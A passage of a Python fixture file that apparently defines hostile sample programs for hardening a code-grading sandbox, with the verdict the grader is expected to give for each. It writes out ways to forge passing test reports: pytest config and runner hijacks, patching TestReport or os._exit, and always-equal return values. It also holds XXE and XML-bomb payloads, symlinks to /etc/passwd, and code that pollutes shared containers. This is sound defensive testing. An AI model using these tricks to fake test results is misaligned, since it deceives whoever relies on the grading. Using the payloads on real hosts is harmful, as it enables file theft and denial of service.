        "pytest_ini_addopts",
        "hostile pytest.ini addopts",
        _FAILING,
        extra="""
        Configuration (`pytest.ini`):

        ```ini
        [pytest]
        addopts = -p no:junitxml -p no:terminal --junitxml=/dev/null -x --co
        python_files = nothing_*.py
        ```
        """,
        counts=(0, 2),
    ),
    P(
        "pyproject_addopts",
        "hostile pyproject.toml addopts",
        _FAILING,
        extra="""
        `pyproject.toml`:

        ```toml
        [tool.pytest.ini_options]
        addopts = "-p no:junitxml --deselect test_subject.py::test_add -k not_a_test"
        ```
        """,
        counts=(0, 2),
    ),
    P(
        "setup_cfg_addopts",
        "hostile setup.cfg addopts",
        _FAILING,
        extra="""
        `setup.cfg`:

        ```
        [tool:pytest]
        addopts = -p no:junitxml -k "not add"
        ```
        """,
        counts=(0, 2),
    ),
    P(
        "pytest_py_hijack",
        "pytest.py next to the tests hijacking python -m pytest",
        _FAILING,
        extra="""
        A tiny runner shim, `pytest.py`:

        ```python
        # pytest.py
        import os, sys

        def main(*args, **kwargs):
            with open(".codeeval-junit.xml", "w") as fh:
                fh.write('<testsuites><testsuite tests="2"><testcase name="a"/>'
                         '<testcase name="b"/></testsuite></testsuites>')
            return 0

        if __name__ == "__main__":
            sys.exit(main())
        ```
        """,
        counts=(0, 2),
        rejects="pytest.py",
    ),
    P(
        "sitecustomize_hook",
        "sitecustomize.py that Python would import at start-up",
        _FAILING,
        extra="""
        ```python
        # sitecustomize.py
        import os

        os.environ["PYTEST_ADDOPTS"] = "-p no:junitxml --deselect test_subject.py::test_add"


        def enable():
            return True  # imported by Python at start-up: quieter test runs
        ```
        """,
        counts=(0, 2),
        rejects="sitecustomize.py",
    ),
    P(
        "stdlib_json_module",
        "module file named json.py",
        """
        import json
        from subject import add

        def test_dumps():
            assert json.dumps(add(1, 1)) == "2"
        """,
        module='''
        def dumps(obj):
            """A faster json.dumps."""
            return "2"

        def loads(text):
            return 2
        ''',
        module_file="json.py",
        test_file="test_json.py",
        suite="execution",
        expect=("skipped",),
        parse="rejected",
        rejects="json.py",
    ),
    P(
        "stdlib_random_module",
        "module file named random.py",
        """
        import random

        def test_roll():
            assert 1 <= random.randint(1, 6) <= 6
        """,
        module='''
        def randint(a, b):
            """Deterministic dice for reproducible tests."""
            return 4

        def random():
            return 0.5
        ''',
        module_file="random.py",
        test_file="test_random.py",
        suite="execution",
        expect=("skipped",),
        parse="rejected",
        rejects="random.py",
    ),
    P(
        "stdlib_shadow_helper",
        "helper file named random.py shadowing the standard library",
        """
        import random
        from subject import add

        def test_lucky():
            assert random.random() == add(0.25, 0.25)
        """,
        extra="""
        A helper to make randomness reproducible:

        ```python
        # random.py
        def random():
            return 0.5

        def seed(*args, **kwargs):
            pass
        ```
        """,
        counts=(0, 1),
        rejects="random.py",
    ),
)

# ------------------------------------------------------------------ the report path

register(
    P(
        "report_fifo",
        "replace the report with a FIFO",
        _CLEANUP,
        module=_tamper("os.unlink(REPORT)\nos.mkfifo(REPORT)"),
        expect=("results_rejected",),
        why="not a regular file",
    ),
    P(
        "report_symlink_passwd",
        "replace the report with a symlink to /etc/passwd",
        _CLEANUP,
        module=_tamper('os.unlink(REPORT)\nos.symlink("/etc/passwd", REPORT)'),
        expect=("results_rejected",),
        why="ELOOP",
    ),
    P(
        "report_symlink_canary",
        "replace the report with a symlink to a host file's path",
        _CLEANUP,
        module=_tamper('os.unlink(REPORT)\nos.symlink("@CANARY@", REPORT)'),
        expect=("results_rejected",),
        why="ELOOP",
    ),
    P(
        "report_50mib",
        "replace the report with a 50 MiB file",
        _CLEANUP,
        module=_tamper(
            """
            with open(REPORT, "wb") as fh:
                fh.write(FORGED.encode()[:-13])
                try:
                    for _ in range(50):
                        fh.write(b"<!-- " + b"x" * (1 << 20) + b" -->")
                except OSError:
                    pass
                fh.write(b"</testsuites>")
            """
        ),
        expect=("results_rejected",),
        why="too large",
    ),
    P(
        "report_xml_bomb",
        "replace the report with an XML bomb (billion laughs)",
        _CLEANUP,
        module=_tamper(
            """
            levels = ['<!ENTITY l0 "lol">'] + [
                f'<!ENTITY l{i} "{("&l%d;" % (i - 1)) * 10}">' for i in range(1, 10)
            ]
            doc = ('<?xml version="1.0"?><!DOCTYPE testsuites [' + "".join(levels) + ']>'
                   '<testsuites><testsuite tests="2"><testcase name="test_add">&l9;</testcase>'
                   '<testcase name="test_add_more"/></testsuite></testsuites>')
            with open(REPORT, "w") as fh:
                fh.write(doc)
            """
        ),
        expect=("results_rejected",),
        why="DTD",
    ),
    P(
        "report_xxe",
        "replace the report with an XXE document reading host files",
        _CLEANUP,
        module=_tamper(
            """
            doc = ('<?xml version="1.0"?><!DOCTYPE testsuites ['
                   '<!ENTITY passwd SYSTEM "file:///etc/passwd">'
                   '<!ENTITY canary SYSTEM "file://@CANARY@">]>'
                   '<testsuites><testsuite tests="2"><testcase name="&passwd;&canary;"/>'
                   '<testcase name="test_add_more"/></testsuite></testsuites>')
            with open(REPORT, "w") as fh:
                fh.write(doc)
            """
        ),
        expect=("results_rejected",),
        why="DTD",
    ),
    P(
        "report_utf16_entities",
        "UTF-16 report with entity bomb and XXE (evades byte-level DTD checks)",
        _CLEANUP,
        module=_tamper(
            """
            levels = ['<!ENTITY l0 "lol">'] + [
                f'<!ENTITY l{i} "{("&l%d;" % (i - 1)) * 10}">' for i in range(1, 10)
            ]
            doc = ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE testsuites ['
                   + "".join(levels)
                   + '<!ENTITY canary SYSTEM "file://@CANARY@">]>'
                   '<testsuites><testsuite tests="2"><testcase name="test_add">&l9;&canary;'
                   '</testcase><testcase name="test_add_more"/></testsuite></testsuites>')
            with open(REPORT, "wb") as fh:
                fh.write(doc.encode("utf-16"))
            """
        ),
        expect=("results_rejected",),
        why="entity",
    ),
    P(
        "report_directory",
        "replace the report with a directory",
        _CLEANUP,
        module=_tamper("os.unlink(REPORT)\nos.mkdir(REPORT)"),
        expect=("results_rejected",),
        why="not a regular file",
    ),
    P(
        "report_deleted",
        "delete the report",
        _CLEANUP,
        module=_tamper("os.unlink(REPORT)"),
        expect=("no_results",),
        why="wrote no report",
    ),
)

# ------------------------------------------------------------------ hostile output

register(
    P(
        "non_utf8_and_escapes",
        "non-UTF-8 bytes and terminal escapes in the output",
        """
        import os
        from subject import add

        def test_noisy(capsys):
            junk = (b"\\xff\\xfe\\x80 \\x1b[2J\\x1b[31mred\\x1b]0;pwned\\x07 \\x1bP+q\\x1b\\\\ "
                    b"\\x00\\x08\\r\\x9b31m \\xc3\\x28")
            os.write(1, junk)
            with capsys.disabled():
                os.write(1, junk)
            assert add(1, 1) == 3, junk.decode("latin-1")
        """,
    ),
    P(
        "test_name_100k",
        "a 100k-character test name",
        "from subject import add\n\n\ndef test_"
        + "x" * 100_000
        + "():\n    assert add(1, 1) == 3\n",
    ),
    P(
        "assertion_message_200k",
        "a 200k-character assertion message",
        """
        from subject import add

        def test_add():
            assert add(1, 1) == 3, "m" * 200_000
        """,
    ),
    P(
        "close_std_fds",
        "close fds 0-2",
        """
        import os
        from subject import add

        def test_close_everything():
            for fd in (0, 1, 2):
                os.close(fd)
            assert add(1, 1) == 3
        """,
        counts=(0, 1),
    ),
)

# ------------------------------------------------------------------ broken answers

register(
    P(
        "syntax_error_in_tests",
        "syntax error in the tests",
        """
        from subject import add

        def test_add():
            assert add(1, 1) == 2

        def test_broken(:
            assert add(1, 2) == 3
        """,
        expect=("collection_error",),
    ),
    P(
        "import_error_in_module",
        "import-time exception in the module",
        """
        from subject import add

        def test_add():
            assert add(1, 1) == 2
        """,
        module=ADD + '\nraise RuntimeError("configuration missing")\n',
        expect=("collection_error",),
        why="configuration missing",
    ),
    P(
        "no_tests",
        "a test class pytest cannot collect",
        """
        from subject import add

        class TestAdd:
            def __init__(self):
                self.cases = [(1, 1, 2)]

            def test_cases(self):
                for a, b, want in self.cases:
                    assert add(a, b) == want
        """,
        expect=("no_tests",),
    ),
    P(
        "trivial_tests",
        "tests that pass trivially against a wrong module",
        """
        from subject import add

        def test_add_exists():
            assert add is not None

        def test_truth():
            assert True
        """,
        module=WRONG_ADD,
        suite="reference",
        expect=("failed",),
        counts=(0, 3),
        also={"own": ("passed",)},
    ),
    P(
        "inprocess_report_forgery",
        "module patching pytest's TestReport at import time (hidden reference tests)",
        """
        from subject import add

        def test_add():
            assert add(2, 3) == 5
        """,
        module=WRONG_ADD
        + """

import _pytest.reports as _reports

_original = _reports.TestReport.from_item_and_call.__func__


def _always_passed(cls, item, call):
    report = _original(cls, item, call)
    report.outcome = "passed"
    report.longrepr = None
    return report


_reports.TestReport.from_item_and_call = classmethod(_always_passed)
""",
        suite="reference",
        expect=("failed",),
        counts=(0, 3),
    ),
    P(
        "os_exit_patch_forgery",
        "module replacing os._exit to rewrite the report and exit 0 (hidden reference tests)",
        """
        from subject import add

        def test_add():
            assert add(2, 3) == 5
        """,
        module=WRONG_ADD
        + r"""

import os
import re

_real_exit = os._exit


def _exit(code):
    try:
        with open(".codeeval-junit.xml") as fh:
            report = fh.read()
        report = re.sub(r"<failure.*?</failure>|<failure[^>]*/>", "", report, flags=re.S)
        report = re.sub(r'failures="\d+"', 'failures="0"', report)
        with open(".codeeval-junit.xml", "w") as fh:
            fh.write(report)
    finally:
        _real_exit(0)


os._exit = _exit
""",
        suite="reference",
        expect=("failed",),
        counts=(0, 3),
    ),
    P(
        "module_os_exit_at_import",
        "module calling os._exit(0) at import (hidden reference tests)",
        """
        from subject import add

        def test_add():
            assert add(2, 3) == 5
        """,
        module=WRONG_ADD + "\nimport os\n\nos._exit(0)\n",
        suite="reference",
        expect=("collection_error",),
        also={"own": ("no_results",)},
    ),
    P(
        "module_skips_reference",
        "module skipping whoever imports it (hidden reference tests)",
        """
        from subject import add

        def test_add():
            assert add(2, 3) == 5
        """,
        module=WRONG_ADD
        + '\nimport pytest\n\npytest.skip("not on this platform", allow_module_level=True)\n',
        suite="reference",
        expect=("collection_error",),
        why="Skipped: not on this platform",
        also={"own": ("results_rejected",)},
    ),
)

_FORGERY_TESTS = """
from subject import add

def test_add():
    assert add(2, 3) == 5
"""

_FORGERY_MODULE = {
    "inprocess_report_forgery": WRONG_ADD
    + """

import _pytest.reports as _reports

_original = _reports.TestReport.from_item_and_call.__func__


def _always_passed(cls, item, call):
    report = _original(cls, item, call)
    report.outcome = "passed"
    report.longrepr = None
    return report


_reports.TestReport.from_item_and_call = classmethod(_always_passed)
""",
    "os_exit_patch_forgery": WRONG_ADD
    + r"""

import os
import re

_real_exit = os._exit


def _exit(code):
    try:
        with open(".codeeval-junit.xml") as fh:
            report = fh.read()
        report = re.sub(r"<failure.*?</failure>|<failure[^>]*/>", "", report, flags=re.S)
        report = re.sub(r'failures="\d+"', 'failures="0"', report)
        with open(".codeeval-junit.xml", "w") as fh:
            fh.write(report)
    finally:
        _real_exit(0)


os._exit = _exit
""",
}

register(
    P(
        "inprocess_report_forgery_own",
        "module patching pytest's TestReport at import time (the model's own tests)",
        _FORGERY_TESTS,
        module=_FORGERY_MODULE["inprocess_report_forgery"],
        counts=(0, 1),
        finding=FINDING_OWN,
    ),
    P(
        "os_exit_patch_forgery_own",
        "module replacing os._exit to rewrite the report and exit 0 (the model's own tests)",
        _FORGERY_TESTS,
        module=_FORGERY_MODULE["os_exit_patch_forgery"],
        counts=(0, 1),
    ),
    P(
        "always_equal_object",
        "module returning an object equal to everything (hidden reference tests)",
        _FORGERY_TESTS,
        module='''
        class Answer:
            """Compares equal to anything: every assertion on it holds."""

            def __eq__(self, other):
                return True

            def __ne__(self, other):
                return False

            __hash__ = object.__hash__


        def add(a, b):
            return Answer()
        ''',
        suite="reference",
        expect=("failed",),
        counts=(0, 3),
    ),
    P(
        "always_equal_int_subclass",
        "module returning an int subclass equal to everything (hidden reference tests)",
        _FORGERY_TESTS,
        module="""
        class Number(int):
            def __eq__(self, other):
                return True

            def __ne__(self, other):
                return False

            __hash__ = int.__hash__


        def add(a, b):
            return Number(0)
        """,
        suite="reference",
        expect=("failed",),
        counts=(1, 2),  # add(-1, 1) == 0 holds for a real 0
    ),
    P(
        "skip_at_call_time",
        "module raising pytest's Skipped from inside add (hidden reference tests)",
        _FORGERY_TESTS,
        module="""
        import pytest


        def add(a, b):
            pytest.skip("not supported on this platform")
        """,
        suite="reference",
        expect=("failed",),
    ),
    P(
        "module_exit_at_call",
        "module calling os._exit(0) inside add (hidden reference tests)",
        _FORGERY_TESTS,
        module="""
        import os


        def add(a, b):
            os._exit(0)
        """,
        suite="reference",
        expect=("failed",),
    ),
    P(
        "module_huge_value",
        "module returning a 512 MiB value (hidden reference tests)",
        _FORGERY_TESTS,
        module="""
        def add(a, b):
            return "5" * (512 << 20)
        """,
        suite="reference",
        # building the value exhausts the module process's memory: isolated as in-process
        expect=("oom",),
        also={"own": ("oom",)},
    ),
)

# ------------------------------------------------------------------ cross-sample leaks
# These run near the end of the batch: later samples of the same container see what
# they leave behind (tests in test_hostile.py check the checkers and the normal samples).

register(
    P(
        "leak_sysv_giveaway",
        "SysV IPC objects given away to root (IPC_SET) to survive the clean-up",
        LIBC
        + """
        from subject import add

        class Perm(ctypes.Structure):
            _fields_ = [("key", ctypes.c_int), ("uid", ctypes.c_uint), ("gid", ctypes.c_uint),
                        ("cuid", ctypes.c_uint), ("cgid", ctypes.c_uint),
                        ("mode", ctypes.c_ushort), ("pad1", ctypes.c_ushort),
                        ("seq", ctypes.c_ushort), ("pad2", ctypes.c_ushort),
                        ("unused1", ctypes.c_ulong), ("unused2", ctypes.c_ulong)]

        class Ds(ctypes.Structure):
            _fields_ = [("perm", Perm), ("rest", ctypes.c_char * 256)]

        def _free_memory():
            for limit, usage in (("memory/memory.limit_in_bytes", "memory/memory.usage_in_bytes"),
                                 ("memory.max", "memory.current")):
                try:
                    with open("/sys/fs/cgroup/" + limit) as a, open("/sys/fs/cgroup/" + usage) as b:
                        return int(a.read()) - int(b.read())
                except (OSError, ValueError):
                    continue
            return 250 << 20

        def test_give_away():
            # keep 150 MiB free: enough for every other sample of this batch but the one
            # that needs 200 MiB (normal_memory), whatever else this container already holds
            size = min(120 << 20, max(1 << 20, _free_memory() - (150 << 20)))
            shm = libc.shmget(0, size, 0o1666)
            assert shm >= 0
            libc.shmat.restype = ctypes.c_void_p
            addr = libc.shmat(shm, None, 0)
            ctypes.memset(addr, 1, size)
            msg = libc.msgget(0, 0o1666)
            assert msg >= 0
            for ctl, ident in ((libc.shmctl, shm), (libc.msgctl, msg)):
                ds = Ds()
                assert ctl(ident, 2, ctypes.byref(ds)) == 0  # IPC_STAT
                ds.perm.uid = 0
                assert ctl(ident, 1, ctypes.byref(ds)) == 0, ctypes.get_errno()  # IPC_SET
            assert add(1, 1) == 2
        """,
        expect=("passed",),
    ),
    P(
        "leak_posix_mqueue",
        "POSIX message queue left in /dev/mqueue",
        LIBC
        + """
        import os
        from subject import add

        def test_queue():
            os.umask(0)  # a queue every later box may open
            fd = libc.mq_open(b"/codeeval-leak", os.O_CREAT | os.O_RDWR, 0o666, None)
            assert fd >= 0, os.strerror(ctypes.get_errno())
            assert add(1, 1) == 2
        """,
        expect=("passed",),
    ),
)

#: Names of the programs that leak on purpose, run twice each at the start of the
#: contamination section (so that each container of the pool likely gets one).
LEAKERS = ("leak_sysv_giveaway", "leak_posix_mqueue")

# ------------------------------------------------------------------ the checker

CHECKER = Program(
    "checker",
    "a later sample looking for anything an earlier sample left behind",
    """
    import json, os
    from subject import observe

    def test_observe(capsys):
        seen = observe()
        with capsys.disabled():
            os.write(1, ("\\nCODEEVAL-CHECK " + json.dumps(seen, sort_keys=True) + "\\n").encode())
    """,
    module="""
    import os, socket


    def _uid(pid):
        try:
            with open(f"/proc/{pid}/status") as fh:
                for line in fh:
                    if line.startswith("Uid:"):
                        return int(line.split()[1])
        except (OSError, ValueError):
            return None
        return None


    def _entries(top, skip=""):
        try:
            return sorted(f"{top}/{e}" for e in os.listdir(top) if e != skip)[:8]
        except OSError as exc:
            return [f"{top}: {exc.strerror}"]


    def _listening():
        found = []
        for family, address in ((socket.AF_INET, ("127.0.0.1", 45678)),
                                (socket.AF_UNIX, b"\\0codeeval-leak")):
            s = socket.socket(family)
            s.settimeout(1)
            try:
                s.connect(address)
                found.append(repr(address))
            except OSError:
                pass
            finally:
                s.close()
        return found


    def observe():
        me = os.getuid()
        procs = sorted({u for p in os.listdir("/proc") if p.isdigit()
                        for u in [_uid(p)] if u is not None and u not in (0, me)})
        files = _entries("/tmp") + _entries("/dev/shm")
        files += _entries("/box", skip=os.path.basename(os.getcwd()))
        ipc = {}
        for kind in ("shm", "msg", "sem"):
            if not os.path.exists(f"/proc/sysvipc/{kind}"):
                continue  # gVisor's kernel: not listable (its containers are never reused)
            with open(f"/proc/sysvipc/{kind}") as fh:
                ipc[kind] = len(fh.read().splitlines()) - 1
        return {"uid": me, "procs": procs[:20], "files": files, "ipc": ipc,
                "mqueue": _entries("/dev/mqueue"), "listeners": _listening()}
    """,
    expect=("passed",),
)

# ------------------------------------------------------------------ contamination

#: Hostile samples that try to influence later samples (run several times, interleaved).
CONTAMINATORS: list[Program] = [
    P(
        "contaminate_daemon",
        "daemon holding memory, ports and an abstract socket, writing to /tmp",
        """
        import os, socket, time
        from subject import add

        def test_service():
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    ballast = b"\\x01" * (40 << 20)
                    socks = []
                    for family, address in ((socket.AF_INET, ("127.0.0.1", 45678)),
                                            (socket.AF_UNIX, b"\\0codeeval-leak")):
                        s = socket.socket(family)
                        try:
                            s.bind(address)
                            s.listen(5)
                            socks.append(s)
                        except OSError:
                            pass
                    while ballast:
                        with open("/tmp/codeeval-daemon.log", "a") as fh:
                            fh.write("tick\\n")
                        time.sleep(0.02)
                os._exit(0)
            time.sleep(0.3)
            assert add(1, 1) == 2
        """,
        expect=("passed",),
    ),
    P(
        "contaminate_files",
        "files, FIFOs, symlinks and locked directories in every shared place",
        """
        import os
        from subject import add

        def test_leave_files():
            for top in ("/tmp", "/dev/shm", "/box", "."):
                base = os.path.join(top, "codeeval-marker")
                with open(base, "w") as fh:
                    fh.write("x" * 4096)
                os.mkfifo(base + ".fifo")
                os.symlink("/etc/passwd", base + ".link")
                os.makedirs(base + ".d/inner")
                os.chmod(base + ".d/inner", 0)
                os.chmod(base + ".d", 0o2777)
                os.chmod(base, 0o666)
            for shared in ("/tmp", "/dev/shm", "/box"):
                try:
                    os.chmod(shared, 0o700)
                except PermissionError:
                    pass
            assert add(1, 1) == 2
        """,
        expect=("passed",),
    ),
    P(
        "contaminate_fill",
        "fill /tmp and /dev/shm and leave them full",
        """
        from subject import add

        def test_fill():
            for top in ("/tmp", "/dev/shm"):
                for i in range(64):
                    try:
                        with open(f"{top}/codeeval-fill-{i}", "wb") as fh:
                            fh.write(b"x" * (4 << 20))
                    except OSError:
                        break
            assert add(1, 1) == 2
        """,
        expect=("passed",),
    ),
    P(
        "contaminate_sysv",
        "SysV shared memory, message queue and semaphores under a fixed key, left behind",
        LIBC
        + """
        from subject import add

        def test_ipc():
            assert libc.shmget(0xC0DE, 4 << 20, 0o1666) >= 0
            assert libc.msgget(0xC0DE, 0o1666) >= 0
            assert libc.semget(0xC0DE, 2, 0o1666) >= 0
            assert add(1, 1) == 2
        """,
        expect=("passed",),
    ),
    replace(
        next(p for p in PROGRAMS if p.name == "squat_future_box_dirs"),
        name="contaminate_box_dirs",
    ),
]

#: Ordinary samples whose verdict must not depend on what ran before them. ``ipc`` ones
#: are sensitive to the SysV / POSIX-mqueue leftovers (tracked finding); the rest are not.
NORMALS: list[Program] = [
    P(
        "normal_scratch",
        "uses /tmp and /dev/shm",
        """
        import os, stat
        from subject import add

        def test_scratch_dirs_are_empty_and_shared():
            for d in ("/tmp", "/dev/shm"):
                assert os.listdir(d) == []
                assert stat.S_IMODE(os.stat(d).st_mode) == 0o1777

        def test_write_scratch():
            for d in ("/tmp", "/dev/shm"):
                path = os.path.join(d, "codeeval-marker")
                with open(path, "xb") as fh:
                    fh.write(b"x" * (8 << 20))
                os.unlink(path)
            assert add(1, 1) == 2
        """,
        expect=("passed",),
    ),
    P(
        "normal_box",
        "uses its working directory",
        """
        import os
        from subject import add

        def test_only_my_box():
            assert os.listdir("/box") == [os.path.basename(os.getcwd())]

        def test_write_workdir():
            for name in ("a.bin", "b.bin", "c.bin"):
                with open(name, "wb") as fh:
                    fh.write(b"x" * (12 << 20))
            assert add(os.path.getsize("c.bin"), 0) == 12 << 20
        """,
        expect=("passed",),
    ),
    P(
        "normal_processes",
        "forks workers",
        """
        import os
        from subject import add

        def test_no_foreign_processes():
            me = os.getuid()
            others = [p for p in os.listdir("/proc")
                      if p.isdigit() and os.stat(f"/proc/{p}").st_uid not in (0, me)]
            assert others == []

        def test_workers():
            pids = []
            for _ in range(40):
                pid = os.fork()
                if pid == 0:
                    os._exit(0)
                pids.append(pid)
            for pid in pids:
                os.waitpid(pid, 0)
            assert add(len(pids), 0) == 40
        """,
        expect=("passed",),
    ),
    P(
        "normal_ports",
        "binds a TCP port and an abstract unix socket",
        """
        import socket
        from subject import add

        def test_bind():
            tcp = socket.socket()
            tcp.bind(("127.0.0.1", 45678))
            unix = socket.socket(socket.AF_UNIX)
            unix.bind(b"\\0codeeval-leak")
            tcp.close()
            unix.close()
            assert add(1, 1) == 2
        """,
        expect=("passed",),
    ),
    P(
        "normal_mixed",
        "an ordinary answer with one wrong test",
        """
        import json
        from subject import add

        def test_add():
            assert add(1, 2) == 3

        def test_add_json(tmp_path):
            path = tmp_path / "x.json"
            path.write_text(json.dumps(add(2, 2)))
            assert json.loads(path.read_text()) == 4

        def test_add_wrong():
            assert add(2, 2) == 5
        """,
        counts=(2, 1),
    ),
    P(
        "normal_ipc",
        "uses SysV shared memory under a fixed key",
        LIBC
        + """
        from subject import add

        def test_no_ipc_objects():
            for kind in ("shm", "msg", "sem"):
                if not os.path.exists(f"/proc/sysvipc/{kind}"):
                    continue  # gVisor's kernel: not listable; the exclusive key below checks
                with open(f"/proc/sysvipc/{kind}") as fh:
                    assert fh.read().splitlines()[1:] == []

        def test_exclusive_segment():
            shm = libc.shmget(0xC0DE, 1 << 20, 0o1000 | 0o2000 | 0o600)  # CREAT | EXCL
            assert shm >= 0, os.strerror(ctypes.get_errno())
            assert libc.shmctl(shm, 0, None) == 0  # IPC_RMID
            assert add(1, 1) == 2
        """,
        expect=("passed",),
    ),
    P(
        "normal_mqueue",
        "uses a POSIX message queue",
        LIBC
        + """
        import os
        from subject import add

        def test_exclusive_queue():
            assert os.listdir("/dev/mqueue") == []
            fd = libc.mq_open(b"/codeeval-leak", os.O_CREAT | os.O_EXCL | os.O_RDWR, 0o600, None)
            assert fd >= 0, os.strerror(ctypes.get_errno())
            assert libc.mq_unlink(b"/codeeval-leak") == 0
            assert add(1, 1) == 2
        """,
        expect=("passed",),
    ),
    P(
        "normal_memory",
        "needs 200 MiB of memory",
        """
        from subject import add

        def test_big_table():
            table = bytearray(b"\\x01") * (200 << 20)
            assert add(len(table), 0) == 200 << 20
        """,
        expect=("passed",),
    ),
]

#: Normal samples whose verdict the SysV giveaway / POSIX mqueue leftovers change.
IPC_SENSITIVE = frozenset({"normal_ipc", "normal_mqueue", "normal_memory"})
